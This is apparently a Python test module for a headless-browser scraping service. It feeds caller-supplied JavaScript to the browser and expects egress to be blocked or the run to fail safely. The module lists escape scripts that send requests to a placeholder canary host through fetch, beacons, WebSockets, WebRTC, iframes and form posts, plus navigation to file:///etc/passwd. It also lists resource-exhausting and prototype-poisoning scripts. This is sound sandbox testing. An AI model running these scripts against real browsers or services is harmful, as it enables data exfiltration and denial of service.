"""Scripts that callers and pages run in a browser, to get out of it or to bring it down."""

from tests.hostile.case import OK, Bounds, Case, cases_of

# Each tries to reach the canary; a promise that fails for it is the script's own failure.
_OUTWARD = (
    "fetch('http://{canary}/')",
    "fetch('http://{canary}/', {mode: 'no-cors'})",
    "new Image().src = 'http://{canary}/'",
    "location = 'http://{canary}/'",
    "location = 'file:///etc/passwd'",
    "location = 'view-source:http://{canary}/'",
    "location = 'chrome://crash'",
    "window.open('http://{canary}/')",
    "document.body.innerHTML = '<iframe src=http://{canary}/></iframe>'",
    "document.body.innerHTML = '<object data=http://{canary}/></object>'",
    "document.head.innerHTML += '<link rel=dns-prefetch href=//leak.invalid>'",
    "document.head.innerHTML += '<link rel=preconnect href=http://{canary}>'",
    "document.head.innerHTML += '<link rel=prefetch href=http://{canary}/>'",
    "document.head.innerHTML += '<link rel=stylesheet href=http://{canary}/a.css>'",
    "navigator.sendBeacon('http://{canary}/', 'x')",
    "new EventSource('http://{canary}/').url",
    "new WebSocket('ws://{canary}/').url",
    "import('http://{canary}/x.js')",
    "new Worker(URL.createObjectURL(new Blob([`fetch('http://{canary}/')`]))) && 1",
    "(async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:{canary}'}]});"
    " c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()) })()",
    "document.body.innerHTML = '<form method=post action=http://{canary}/></form>';"
    " document.forms[0].submit()",
    "document.body.innerHTML = '<a ping=http://{canary}/ href=#x>x</a>'; document.links[0].click()",
    "document.body.innerHTML = '<video src=http://{canary}/v.mp4 autoplay></video>'",
)

_BREAKING = (
    "require('fs')",
    "process.exit(1)",
    "\u0000",
    "}",
    "throw 1",
    "throw {toString() { throw 1 }}",
    "'x'.repeat(5e8)",
    "new Array(1e7).fill('x').join('')",
    "await new Promise(() => {})",
    "while (1);",
    "const a = []; while (1) a.push(new Array(1e6).fill(1))",
    "for (;;) alert(1)",
    "alert(1); confirm(2); prompt(3)",
    "print()",
    "debugger",
    "window.close()",
    "history.pushState({}, '', '/' + 'a'.repeat(1e6))",
    "window.onbeforeunload = () => 'no'; 1",
    "navigator.geolocation.getCurrentPosition(() => 0)",
    "Object.defineProperty(Object.prototype, 'then', {get() { throw 1 }}); 1",
    "document.documentElement.remove()",
    "Object.prototype.toJSON = () => { throw 1 }; ({a: 1})",
    "Array.prototype.push = () => { throw 1 }; 1",
    "JSON.stringify = () => { throw 1 }; 1",
    "let o = {}; o.o = o; o",
    "document.open(); document.write('<p>anew'); document.close()",
    "setInterval(() => document.body.append('x'.repeat(1e6)), 1); 1",
)


def script_cases() -> list[Case]:
    """Return every script, run as an action of the caller's."""
    bounds = Bounds(seconds=40)
    failed = ("ACTION_FAILED", "SCRAPE_FAILED", "SCRAPE_TIMEOUT", "CONTENT_TOO_LARGE")
    return [
        *cases_of(
            "way out",
            _actions(_OUTWARD),
            OK,
            "EGRESS_BLOCKED",
            *failed,
            bounds=bounds,
            renders=True,
        ),
        *cases_of(
            "script",
            _actions(_BREAKING),
            OK,
            *failed,
            "VALIDATION_ERROR",
            bounds=bounds,
            renders=True,
        ),
        *cases_of(
            "rendered",
            [{"url": f"http://{{site}}/{path}", "mode": "dynamic"} for path in _RENDERED],
            OK,
            "EGRESS_BLOCKED",
            *failed,
            bounds=bounds,
            renders=True,
        ),
    ]


_RENDERED = (
    "page/refresh-canary",
    "page/base-canary",
    "page/icon-canary",
    "page/style-canary",
    "page/deep-div",
    "lure/refresh-header",
    "lure/preload-header",
    "lure/early-hints",
    "lure/reporting",
    "broken/corrupt-gzip",
    "broken/huge-chunk",
    "odd/cut-short",
    "too-large/a-terabyte-announced",
    "redirect/302/0",
    "redirect/307/11",
    "endless/loop",
)


def _actions(scripts: tuple[str, ...]) -> list[dict[str, object]]:
    return [
        {
            "url": "http://{site}/plain",
            "timeout": 20_000,
            "actions": [{"type": "executeJavascript", "script": script}],
        }
        for script in scripts
    ]
